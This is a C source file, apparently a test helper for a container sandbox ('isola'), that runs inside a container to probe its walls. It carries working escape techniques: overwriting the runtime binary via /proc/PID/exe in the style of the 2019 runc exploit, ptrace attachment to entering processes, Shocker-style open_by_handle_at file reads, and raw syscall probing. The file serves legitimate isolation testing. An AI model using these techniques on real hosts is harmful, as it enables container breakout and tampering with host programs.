/* SPDX-License-Identifier: GPL-2.0-or-later */

/*
 * What tests run inside of a container to try its walls; static, so that any root will do
 *
 *   attack call NUMBER [ARGUMENT...]      one system call
 *   attack call32 NUMBER [ARGUMENT...]    one 32-bit system call
 *   attack families                       the socket families that can be made
 *   attack abstract NAME                  connects to an abstract socket
 *   attack exe                            writes to the program files of processes that come
 *   attack trace                          traces processes that come, before they execute
 *   attack handle DIRECTORY HEX           reads a file of DIRECTORY's file system by its handle
 *
 * An argument of a call is a number as strtoul() reads it, "@text" for the address of that
 * text, or "#N" for the address of N zero bytes.  Prints "ok RESULT" or the name of
 * the errno; exits with 0 either way, so that a killed program differs.
 */

#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static int say(long r) {
        if (r == -1)
                printf("%s\n", strerrorname_np(errno) ? strerrorname_np(errno) : "?");
        else
                printf("ok %ld\n", r);
        return 0;
}

static int try_families(void) {
        static const int types[] = { SOCK_STREAM, SOCK_DGRAM, SOCK_RAW, SOCK_RDM, SOCK_SEQPACKET };

        for (int family = 0; family < 46; family++) {
                int made = 0;

                for (size_t i = 0; i < sizeof types / sizeof *types; i++) {
                        int s = socket(family, types[i], 0);

                        made = made || s >= 0;
                        if (s >= 0)
                                (void) close(s);
                }
                if (made)
                        printf("%d\n", family);
        }
        return 0;
}

static int try_abstract(const char *name) {
        struct sockaddr_un a = { .sun_family = AF_UNIX };
        int s = socket(AF_UNIX, SOCK_STREAM, 0);

        strncpy(a.sun_path + 1, name, sizeof a.sun_path - 2);
        return say(
                connect(s, (struct sockaddr *) &a,
                        (socklen_t) (offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name))));
}

/* In the lowest 4 GiB, where 32-bit calls can reach it too. */
static void *low_memory(size_t size) {
        void *p = mmap((void *) 0x10000000, size, PROT_READ | PROT_WRITE,
                       MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

        if (p == MAP_FAILED)
                exit(3);
        return p;
}

static unsigned long argument(const char *word) {
        char *copy;

        if (*word == '#')
                return (unsigned long) low_memory(strtoul(word + 1, NULL, 0));
        if (*word != '@')
                return strtoul(word, NULL, 0);
        copy = low_memory(strlen(word));
        memcpy(copy, word + 1, strlen(word));
        return (unsigned long) copy;
}

static long call32(unsigned long nr, const unsigned long *a) {
#ifdef __x86_64__
        long r;

        __asm__ volatile("int $0x80"
                         : "=a"(r)
                         : "a"(nr), "b"(a[0]), "c"(a[1]), "d"(a[2]), "S"(a[3]), "D"(a[4])
                         : "memory");
        r = (int) r;
        if (r < 0 && r > -4096) {
                errno = (int) -r;
                return -1;
        }
        return r;
#else
        errno = ENOSYS;
        return -1;
#endif
}

/* --- processes that come into the container --- */

#define STOP "/dev/shm/stop"

/* Calls it for every process that comes after this one, until it succeeds or STOP is there. */
static int watch(int (*each)(int pid)) {
        int highest = getpid();

        for (long i = 0; i % 1024 || access(STOP, F_OK) < 0; i++) {
                int pid = highest + 1 + (int) (i % 8);

                if (each(pid)) {
                        printf("%d\n", pid);
                        return 0;
                }
                /* Numbers are given in ascending order. */
                if (i % 64 == 0)
                        for (int next = highest + 1; next < highest + 64; next++)
                                if (kill(next, 0) == 0)
                                        highest = next - 2 > highest ? next - 2 : highest;
        }
        return 0;
}

static int is_isola(int file, off_t size) {
        void *text = mmap(NULL, (size_t) size, PROT_READ, MAP_PRIVATE, file, 0);
        int found = text != MAP_FAILED && memmem(text, (size_t) size, "ISOLA_WEAKEN", 12);

        if (text != MAP_FAILED)
                (void) munmap(text, (size_t) size);
        return found;
}

/* As the exploit of 2019: take hold of the file, and write when nobody executes it any more. */
static int overwrite(int pid) {
        static int held[512], n;
        static struct stat own;
        char path[64];
        struct stat st;
        int file;

        if (!own.st_ino)
                (void) stat("/proc/self/exe", &own);
        snprintf(path, sizeof path, "/proc/%d/exe", pid);
        file = n < 512 ? open(path, O_RDONLY | O_CLOEXEC) : -1;
        if (file >= 0 && fstat(file, &st) == 0 && st.st_ino != own.st_ino && st.st_size > 0 &&
            is_isola(file, st.st_size))
                held[n++] = file;
        else if (file >= 0)
                (void) close(file);
        for (int i = 0; i < n; i++) {
                snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
                file = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
                if (file >= 0 && write(file, "pwned!", 6) == 6) {
                        printf("written ");
                        return 1;
                }
                if (file >= 0)
                        (void) close(file);
        }
        return 0;
}

/* Whether it still is what entered, and not yet the program. */
static int is_entering(int pid) {
        char path[64], name[32] = "";
        int file, n;

        snprintf(path, sizeof path, "/proc/%d/comm", pid);
        file = open(path, O_RDONLY | O_CLOEXEC);
        n = file < 0 ? -1 : (int) read(file, name, sizeof name - 1);
        if (file >= 0)
                (void) close(file);
        return n > 0 && strncmp(name, "isola", 5) == 0;
}

static int trace(int pid) {
        int status, entering;

        if (!is_entering(pid) || ptrace(PTRACE_ATTACH, pid, NULL, NULL) < 0)
                return 0;
        (void) waitpid(pid, &status, __WALL);
        /* The kernel may have let it execute first, which is no catch. */
        entering = is_entering(pid);
        (void) ptrace(PTRACE_DETACH, pid, NULL, NULL);
        (void) kill(pid, SIGCONT);
        if (entering)
                printf("traced ");
        return entering;
}

/* --- inodes by their handles (Shocker) --- */

static int try_handle(const char *directory, const char *hex) {
        struct {
                unsigned bytes;
                int type;
                unsigned char handle[128];
        } h = { 0 };
        int at = open(directory, O_RDONLY | O_DIRECTORY | O_CLOEXEC), file;
        char text[256];
        ssize_t n;

        if (sscanf(hex, "%d:", &h.type) != 1 || !(hex = strchr(hex, ':')))
                return 2;
        for (hex++; h.bytes < sizeof h.handle && sscanf(hex, "%2hhx", &h.handle[h.bytes]) == 1;
             hex += 2)
                h.bytes++;
        file = (int) syscall(SYS_open_by_handle_at, at, &h, O_RDONLY);
        if (file < 0)
                return say(-1);
        n = read(file, text, sizeof text);
        return n > 0 && write(1, text, (size_t) n) == n ? 0 : 3;
}

static int try_call(int argc, char **argv, int bits) {
        unsigned long a[6] = { 0 }, nr = strtoul(argv[0], NULL, 0);

        for (int i = 1; i < argc && i <= 6; i++)
                a[i - 1] = argument(argv[i]);
        return say(bits == 32 ? call32(nr, a)
                              : syscall((long) nr, a[0], a[1], a[2], a[3], a[4], a[5]));
}

int main(int argc, char **argv) {
        const char *what = argc > 1 ? argv[1] : "";

        if (strcmp(what, "call") == 0 && argc > 2)
                return try_call(argc - 2, argv + 2, 64);
        if (strcmp(what, "call32") == 0 && argc > 2)
                return try_call(argc - 2, argv + 2, 32);
        if (strcmp(what, "families") == 0)
                return try_families();
        if (strcmp(what, "abstract") == 0 && argc > 2)
                return try_abstract(argv[2]);
        if (strcmp(what, "exe") == 0)
                return watch(overwrite);
        if (strcmp(what, "trace") == 0)
                return watch(trace);
        if (strcmp(what, "handle") == 0 && argc > 3)
                return try_handle(argv[2], argv[3]);
        fprintf(stderr, "attack: no such attack: %s\n", what);
        return 2;
}
